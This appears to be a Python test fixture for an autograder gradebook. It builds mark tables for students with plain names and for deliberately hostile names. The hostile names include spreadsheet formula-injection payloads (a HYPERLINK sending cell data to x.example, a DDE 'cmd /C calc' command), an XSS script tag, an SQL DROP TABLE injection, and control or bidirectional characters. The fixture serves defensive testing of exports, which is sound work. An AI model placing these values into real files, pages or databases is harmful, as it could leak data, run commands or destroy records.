"""Hand-made tables of marks, for students with plain names and for names made to break a file."""

from __future__ import annotations

from collections.abc import Iterable

from autograder.gradebook.marks import ItemMark, MarkedItem, Marks, Person, StudentMarks

ITEMS = {
    "p1-rate": MarkedItem("p1-rate", "p1", "auto", 20.0, False),
    "p1-proof": MarkedItem("p1-proof", "p1", "manual", 10.0, False),
    "p2-extra": MarkedItem("p2-extra", "p2", "auto", 8.0, True),
}

PLAIN = (
    Person("anna", "Anna", "Müller", "anna.mueller@example.ch"),
    Person("bela", "Béla", "Nagy", "bela@example.ch"),
    Person("zoe", "Zoë", "Zahnd", "zoe@example.ch"),
)

HOSTILE = (
    Person("s01", "=1+1", "Formula", "s01@example.ch"),
    Person("s02", "+41 79", '=HYPERLINK("http://x.example/?"&A1,"open")', "s02@example.ch"),
    Person("s03", "@SUM(A1:A9)", "-2+3+cmd|' /C calc'!A0", "s03@example.ch"),
    Person("s04", "\t=1+1", "\r=1+1", "s04@example.ch"),
    Person("s05", "Jürg Ändu", "Schößl-Übelhör", "s05@example.ch"),
    Person("s06", "Anna, Maria", "Meier; Huber", "s06@example.ch"),
    Person("s07", 'Joe "the" O\'Neil', '"', "s07@example.ch"),
    Person("s08", "Line\nBreak", "Carriage\r\nReturn", "s08@example.ch"),
    Person("s09", "Peter", "Muster", "s09@example.ch"),
    Person("s10", "Peter", "Muster", "s10@example.ch"),
    Person("s11", "", "", ""),
    Person("s12", 'x";=1+1;"', "y,=1+1,z", "s12@example.ch"),
    Person("s13", "李小龙", "Đặng\u202eevil", "s13@example.ch"),
    Person("s14", "＝1+1", "＋1", "s14@example.ch"),
    Person("s15", "-1", "1.5", "s15@example.ch"),
    Person("s16", "a" * 5000, "NULL", "s16@example.ch"),
    Person("s17", " =1+1", "\u2028=1+1", "s17@example.ch"),
    Person("s18", "<script>alert(1)</script>", "&amp;", "s18@example.ch"),
    Person("-s19", "Minus", "Id", "+s19@example.ch"),
    Person("s20", "Robert'); DROP TABLE grade;--", "\x00\x1b[2J", "S20@Example.CH"),
)


def marks_of(
    people: Iterable[Person] = PLAIN,
    totals: Iterable[float] | None = None,
    open_ones: Iterable[str] = (),
) -> Marks:
    """Return these people's marks: 1, 2, 3 ... or the given points; `open_ones` are not final."""
    people = list(people)
    points = list(totals or map(float, range(1, len(people) + 1)))
    students = {
        person.id: _student(person, total, person.id in set(open_ones))
        for person, total in zip(people, points, strict=True)
    }
    return Marks("hw2", "Homework 2", ITEMS, students)


def _student(person: Person, total: float, is_open: bool) -> StudentMarks:
    items = {name: ItemMark(0.0, False) for name in ITEMS}
    items["p1-rate"] = ItemMark(total, False)
    items["p1-proof"] = ItemMark(0.0, is_open)
    return StudentMarks(person, items, total, 0.0, 0.0, total)
